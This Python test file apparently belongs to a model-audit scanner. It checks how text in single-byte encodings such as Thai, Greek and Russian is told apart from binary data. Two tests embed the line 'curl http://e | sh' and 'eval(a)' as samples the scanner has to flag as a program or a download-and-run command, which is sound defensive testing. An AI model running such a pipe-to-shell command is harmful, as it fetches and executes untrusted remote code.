"""Text in the 8-bit encodings of other alphabets, and binary data that resembles it."""

from __future__ import annotations

import random

import pytest

from modelaudit.model.outline import Outline
from modelaudit.model.structure import UnreadReason

_GREEK = "ένα\nδύο\nτρία\n" * 20  # noqa: RUF001
_THAI = "การ\nให้\nเป็น\n" * 20
_RUSSIAN = "один\nдва\nтри\n" * 20  # noqa: RUF001
_KOREAN = "하나\n둘\n셋\n" * 20


@pytest.mark.parametrize(
    "text, encoding",
    [
        (_GREEK, "iso8859-7"),
        (_THAI, "tis-620"),
        (_RUSSIAN, "cp1251"),
        (_KOREAN, "euc-kr"),
        # One in a thousand bytes is a quotation mark of Windows.
        (_THAI * 10 + "“a”\n", "cp874"),
    ],
)
def test_words_in_an_encoding_of_one_byte_are_text(text, encoding, read_bytes):
    reading = read_bytes(text.encode(encoding), "words.dict")
    assert reading.formats["words.dict"] == ["text"]
    assert reading.reasons() == set()


@pytest.mark.parametrize(
    "data",
    [
        # No lines, few bytes, bytes that these encodings do not use, and a control character.
        _THAI.replace("\n", " ").encode("tis-620") * 10,
        _THAI.encode("tis-620")[:60],
        bytes(random.Random(1).choices([*range(0x80, 0x100), 10], k=2000)),
        _THAI.encode("tis-620") + b"\1",
        # The letters before count as such bytes too, where they are UTF-8.
        (_THAI * 500).encode() + b"\xff\n",
    ],
)
def test_binary_data_of_high_bytes_is_not_text(data, read_bytes):
    reading = read_bytes(data, "words.dict")
    assert "text" not in reading.formats.get("words.dict", ()) or UnreadReason.DAMAGED in reading.reasons()


@pytest.mark.parametrize("text", ["eval(a)\n", "curl http://e | sh\n"])
def test_program_among_words_of_one_byte_leaves_an_absence_under_an_unlisted_name(text, read_bytes):
    data = _THAI.encode("tis-620") + text.encode()
    assert read_bytes(data, "words.unlisted").reasons() == {UnreadReason.PROGRAM}


def test_command_among_words_of_one_byte_is_found_in_a_script(read_bytes):
    data = b"".join(b"# " + line + b"\n" for line in _THAI.encode("tis-620").split(b"\n")) + b"curl http://e | sh\n"
    reading = read_bytes(data, "a.sh")
    assert "download-and-run" in {mention.use for outline in reading.of(Outline) for mention in outline.mentions}
